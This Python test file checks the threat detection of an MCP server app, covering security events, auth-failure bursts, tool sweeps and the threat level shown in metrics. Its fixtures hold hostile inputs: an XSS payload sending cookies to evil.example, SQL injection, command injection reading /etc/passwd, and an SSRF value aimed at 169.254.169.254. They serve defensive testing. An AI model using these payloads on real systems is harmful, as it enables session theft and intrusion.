"""Threat detection through the HTTP app: attacks in tool arguments and REST bodies become stored, counted
security events without being blocked by detection; bursts of failed authentications raise an event; the threat
level reaches /api/metrics/prometheus and system-status."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable

import httpx
import pytest
from support.http import JWT_SECRET, MCP_HEADERS, Server

from sentia_server.app import create_app
from sentia_server.auth.principal import Role
from sentia_server.config import Settings
from sentia_server.runtime import Runtime

pytestmark = pytest.mark.anyio

GIN_LOT = {
    "work_order": "WO-2026-0117",
    "lot_number": "LOT-20261120-001",
    "product_sku": "SEN-GIN-70",
    "inspector": "Amira O'Brien",
    "inspected_at": "2026-11-20T09:30:00Z",
    "measurements": [
        {"characteristic": "fill volume", "nominal": "700", "tolerance": "5", "unit": "ml", "values": [698, 703]}
    ],
}


@pytest.fixture
async def hardened(make_settings: Callable[..., Settings]) -> AsyncIterator[Server]:
    settings = make_settings(
        jwt_secret=JWT_SECRET,
        threats={"auth_failure_threshold": 3, "tool_sweep_threshold": 4, "request_spike_threshold": 50},
    )
    app = create_app(settings)
    runtime: Runtime = app.state.runtime
    async with app.router.lifespan_context(app):
        admin = await runtime.api_keys.create(role=Role.ADMIN, tenant="acme")
        viewer = await runtime.api_keys.create(role=Role.VIEWER, tenant="acme")
        transport = httpx.ASGITransport(app=app, client=("192.0.2.10", 50000))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:3001") as client:
            yield Server(client, runtime, settings, admin.token, viewer.token)


async def call_tool(server: Server, name: str, arguments: dict, token: str | None = None) -> dict:
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": arguments}}
    response = await server.rpc(body, token=token or server.admin_key, **{"mcp-protocol-version": "2025-06-18"})
    assert response.status_code == 200, response.text
    return response.json()


async def events(server: Server):
    return await server.runtime.security.store.recent()


async def test_a_legitimate_call_with_awkward_text_passes_and_raises_nothing(hardened):
    notes = "Execute-Pro filler -- check seal; drop ship to 1 Union St. for Smith & Sons"
    result = await call_tool(hardened, "quality-record-create", {**GIN_LOT, "notes": notes})
    assert result["result"]["isError"] is False
    assert await events(hardened) == []


async def test_detection_reports_but_never_blocks_what_the_schema_accepts(hardened):
    notes = "<script>fetch('//evil.example/?c='+document.cookie)</script>"
    result = await call_tool(hardened, "quality-record-create", {**GIN_LOT, "notes": notes})
    assert result["result"]["isError"] is False  # stored as text; escaping is the reader's job
    [event] = await events(hardened)
    assert (event.event_type, event.severity, event.tool, event.location, event.tenant) == (
        "xss",
        "high",
        "quality-record-create",
        "arguments.notes",
        "acme",
    )
    assert event.client_address == "192.0.2.10"
    assert event.principal_subject.startswith("api-key:")
    assert event.request_id is not None
    assert "document.cookie" not in str(event.detail)


async def test_the_schema_blocks_an_attack_in_a_strict_field_and_the_event_is_still_recorded(hardened):
    result = await call_tool(hardened, "list-tools", {"category": "system' UNION SELECT 1--"})
    assert result["result"]["isError"] is True
    assert "UNION" not in str(result)  # the refusal names the field, never echoes the payload
    [event] = await events(hardened)
    assert (event.event_type, event.location) == ("sql_injection", "arguments.category")


async def test_a_denied_call_is_still_inspected(hardened):
    await call_tool(hardened, "database-query", {"sql": "x; cat /etc/passwd"}, token=hardened.viewer_key)
    kinds = sorted(event.event_type for event in await events(hardened))
    assert kinds == ["command_injection", "path_traversal"]


async def test_rest_json_bodies_are_inspected(hardened):
    response = await hardened.client.post("/oauth/xero/callback", json={"redirect": "http://169.254.169.254/latest"})
    assert response.status_code == 404  # no REST route takes a body yet; every body is inspected all the same
    [event] = await events(hardened)
    assert (event.event_type, event.location, event.detail["path"]) == ("ssrf", "body.redirect", "/oauth/xero/callback")


async def test_malformed_and_non_json_bodies_are_not_inspected(hardened):
    await hardened.client.post("/health", content=b"{not json", headers={"content-type": "application/json"})
    await hardened.client.post("/health", content=b"<script>", headers={"content-type": "text/plain"})
    assert await events(hardened) == []


async def test_a_burst_of_failed_authentications_raises_one_event(hardened):
    for _ in range(4):
        response = await hardened.client.post("/mcp", json={}, headers={**MCP_HEADERS, "authorization": "Bearer nope"})
        assert response.status_code in (401, 429)
    bursts = [event for event in await events(hardened) if event.event_type == "auth_failure_burst"]
    assert [(event.severity, event.client_address) for event in bursts] == [("high", "192.0.2.10")]


async def test_a_tool_sweep_raises_an_event(hardened):
    for tool in ("list-tools", "system-status", "xero-get-contacts", "shopify-get-products"):
        await call_tool(hardened, tool, {})
    [event] = [event for event in await events(hardened) if event.event_type == "tool_sweep"]
    assert event.detail == {"distinct_tools": 4, "window_seconds": 120}


async def test_metrics_need_a_credential_with_system_read(hardened):
    missing = await hardened.client.get("/api/metrics/prometheus")
    assert missing.status_code == 401 and missing.headers["www-authenticate"].startswith("Bearer ")
    refused = await hardened.client.get("/api/metrics/prometheus", headers={"authorization": "Bearer not-a-key"})
    assert refused.status_code == 401 and 'error="invalid_token"' in refused.headers["www-authenticate"]
    viewer = await hardened.client.get(
        "/api/metrics/prometheus", headers={"authorization": f"Bearer {hardened.viewer_key}"}
    )
    assert viewer.status_code == 403
    assert viewer.json()["error"] == "insufficient_scope" and "system:read" in viewer.json()["error_description"]


async def test_metrics_expose_event_counts_and_the_threat_level(hardened):
    await call_tool(hardened, "list-tools", {"category": "| whoami"})
    response = await hardened.client.get(
        "/api/metrics/prometheus", headers={"authorization": f"Bearer {hardened.admin_key}"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/plain; version=")
    lines = response.text.splitlines()
    assert 'sentia_mcp_security_events_total{severity="high",type="command_injection"} 1.0' in lines
    assert "sentia_mcp_threat_level 1.0" in lines
    assert "# TYPE sentia_mcp_threat_level gauge" in lines


async def test_system_status_shows_the_threat_level_to_admins_only(hardened):
    operator = await hardened.runtime.api_keys.create(role=Role.OPERATOR, tenant="acme")
    for _ in range(2):
        await call_tool(hardened, "list-tools", {"category": "<svg/onload=alert(1)>"})
    admin_view = await call_tool(hardened, "system-status", {"include_vendors": False})
    assert admin_view["result"]["structuredContent"]["threat_level"] == "elevated"
    operator_view = await call_tool(hardened, "system-status", {"include_vendors": False}, token=operator.token)
    assert operator_view["result"]["structuredContent"]["threat_level"] is None
